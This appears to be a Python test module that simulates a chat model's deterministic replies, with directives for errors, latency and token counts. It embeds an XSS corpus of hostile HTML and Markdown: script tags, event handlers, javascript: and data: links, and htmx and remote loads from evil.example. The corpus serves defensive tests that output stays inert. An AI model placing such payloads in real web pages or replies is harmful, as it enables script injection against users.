"""What the simulated claude-4-6 says: deterministic replies, its token counts, directives.

A reply depends only on the prompt, so tests can compare what the page shows with what the
simulator sent. Directives written in the last user message drive faults and lengths:

  [sim:tokens=N]                  reply exactly N tokens long (before any max_tokens cut-off)
  [sim:error=STATUS]              answer with that error: 400 401 402 403 404 413 429 500 504
                                  529, or `spend-limit` (a 429 without retry-after) or `credit`
                                  (a 400 "credit balance is too low") or `context` (a 400
                                  "prompt is too long"); `STATUSxK` fails only
                                  the first K requests with this prompt, then answers normally
  [sim:retry-after=S]             the retry-after a 429 carries (default 1)
  [sim:break-after=N]             the connection dies after N tokens
  [sim:midstream-error=TYPE]      an `event: error` of that type inside the 200 stream, before
                                  any text; `TYPE@N` sends it after N tokens
  [sim:slow-first=SECONDS]        wait this long before the first token
  [sim:latency=MS]                per-token latency for this reply
  [sim:html]                      the reply carries an XSS corpus
  [sim:stamp]                     each streamed token starts with ⟦EMISSION_TIME⟧ (Unix
                                  seconds), so a benchmark can measure what the app adds

When the last message is the assistant's (a prefill, as Continue sends), the reply goes on
from where that text ends.
"""

from __future__ import annotations

import hashlib
import random
import re
from dataclasses import dataclass

TOKEN_RE = re.compile(r"\s*(?:\w+|[^\w\s])|\s+")
DIRECTIVE_RE = re.compile(r"\[sim:([a-z-]+)(?:=([^\]\s]*))?\]")


def tokenize(text: str) -> list[str]:
    """Split text into the simulator's tokens; joining them gives the text back."""
    return TOKEN_RE.findall(text)


def count_tokens(text: str) -> int:
    return len(TOKEN_RE.findall(text))


@dataclass
class Directives:
    tokens: int | None = None
    error: str | None = None
    error_times: int | None = None
    retry_after: float = 1.0
    break_after: int | None = None
    midstream_error: str | None = None
    midstream_after: int = 0
    slow_first: float = 0.0
    latency_ms: int | None = None
    html: bool = False
    stamp: bool = False


def parse_directives(text: str) -> Directives:
    found = Directives()
    for name, value in DIRECTIVE_RE.findall(text):
        try:
            if name == "tokens":
                found.tokens = max(0, int(value))
            elif name == "error":
                counted = re.fullmatch(r"(.+)x(\d+)", value)
                found.error = counted.group(1) if counted else value
                found.error_times = int(counted.group(2)) if counted else None
            elif name == "retry-after":
                found.retry_after = max(0.0, float(value))
            elif name == "break-after":
                found.break_after = max(0, int(value))
            elif name == "midstream-error":
                error_type, _, after = value.partition("@")
                found.midstream_error = error_type or "overloaded_error"
                found.midstream_after = max(0, int(after)) if after else 0
            elif name == "slow-first":
                found.slow_first = max(0.0, float(value))
            elif name == "latency":
                found.latency_ms = max(0, int(value))
            elif name == "html":
                found.html = True
            elif name == "stamp":
                found.stamp = True
        except ValueError:
            continue  # A directive with an unreadable value is ignored, like any text.
    return found


def strip_directives(text: str) -> str:
    return DIRECTIVE_RE.sub("", text).strip()


_TOPICS = [
    "streaming",
    "budgets",
    "latency",
    "context",
    "tokens",
    "caching",
    "retries",
    "markdown",
    "queues",
    "sockets",
]
_WORDS = (
    "the model reads each message and answers with care while the server streams every "
    "token to the page so nothing is lost and the budget stays in view a short reply costs "
    "little and a long one more but each is paid for once only"
).split()
# What `[sim:html]` puts in a reply: hostile markup of every kind a chat front end has been
# caught out by, to prove that model output is data, never code. Every payload, if it ever
# ran, would call alert() or set `window.__xss`, and every outside address is on
# evil.example, so a browser test sees at once if anything executes or calls out. It covers
# script tags, event-handler attributes, javascript:/data:/vbscript: URLs (as raw HTML and
# as Markdown links, with case and entity tricks), SVG, MathML and <style> payloads, iframe
# src and srcdoc, htmx attributes (hx-get, hx-post, hx-trigger, hx-on), images on an
# outside host, and an aligned table (whose alignment must not become an inline style the
# Content Security Policy refuses). Tests also send it as a user's message.
XSS_CORPUS = """
Here is some **hostile** markup, which must show up as text and never run:

<script>alert('xss-script'); window.__xss = 'script'</script>
<script src="http://evil.example/x.js"></script>
<img src=x onerror="alert('xss-img'); window.__xss = 'img'">
<img src="http://evil.example/raw.png" onload="window.__xss = 'img-onload'">
<body onload="alert('xss-body')">
<svg onload="alert('xss-svg')"><circle r="1"/></svg>
<svg><a xlink:href="javascript:alert('xss-svg-link')"><text y="20">svg link</text></a></svg>
<iframe src="javascript:alert('xss-iframe')"></iframe>
<iframe srcdoc="<script>parent.alert('xss-srcdoc')</script>"></iframe>
<object data="javascript:alert('xss-object')"></object>
<math><mtext><table><mglyph><style><img src=x onerror="alert('xss-math')">
<style>@import url("http://evil.example/x.css"); body { background: url(/x.png) }</style>
<div hx-get="http://evil.example/hx" hx-trigger="load">hx-get on load</div>
<form hx-post="/accounts/logout/" hx-trigger="load">hx-post on load</form>
<button hx-on:click="alert('xss-hx-on')" hx-on::load="alert('xss-hx-load')">hx-on</button>
<a href="javascript:alert('xss-a')">raw javascript link</a>
<a href="jav&#x09;ascript:alert('xss-tab')">tab-split javascript link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">raw data link</a>
<a href="vbscript:msgbox('xss')">raw vbscript link</a>
<meta http-equiv="refresh" content="0;url=javascript:alert('xss-meta')">
<base href="http://evil.example/">

- [a javascript link](javascript:alert('xss-link'))
- [a mixed-case javascript link](JaVaScRiPt:alert('xss-case'))
- [an entity-split javascript link](jav&#x09;ascript:alert('xss-entity'))
- [an encoded javascript link](&#106;avascript:alert('xss-encoded'))
- [a data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
- [a vbscript link](vbscript:msgbox('xss'))
- <javascript:alert('xss-autolink')>
- [a reference link][evil]
- ![an outside image](http://evil.example/x.png)
- ![an https outside image](https://evil.example/pixel.png)
- ![a data image](data:image/png;base64,iVBORw0KGgo=)
- ![an svg data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
- `<img src=x onerror="alert('xss-code')">` in inline code

| payload in a cell | aligned, which must not become an inline style |
|:--|--:|
| <img src=x onerror="alert('xss-cell')"> | [cell link](javascript:alert('xss-cell')) |

```html
<script>alert('xss-fenced')</script>
```

[evil]: javascript:alert('xss-ref')
"""


def _sentence(rng: random.Random, length: int) -> str:
    words = [rng.choice(_WORDS) for _ in range(length)]
    return " ".join(words).capitalize() + "."


def reply_text(prompt: str, *, tokens: int | None = None, html: bool = False) -> str:
    """The reply to `prompt`: a heading, a paragraph, a list and a fenced code block."""
    question = strip_directives(prompt)
    rng = random.Random(hashlib.sha256(question.encode()).digest())
    topic = rng.choice(_TOPICS)
    quoted = question if len(question) <= 80 else question[:77] + "..."
    parts = [
        f"## About {topic}",
        f"You asked: “{quoted}”. " + _sentence(rng, 12),
        "\n".join(f"- **{rng.choice(_TOPICS)}**: {_sentence(rng, 6)}" for _ in range(3)),
        f"```python\ndef {topic}_total(items):\n    return sum(len(item) for item in items)\n```",
        _sentence(rng, 10),
    ]
    if html:
        parts.insert(2, XSS_CORPUS.strip())
    text = "\n\n".join(parts)
    if tokens is None:
        return text
    # Pad with more sentences until long enough, then cut to exactly `tokens` tokens.
    while count_tokens(text) < tokens:
        text += "\n\n" + _sentence(rng, 20)
    return "".join(tokenize(text)[:tokens])
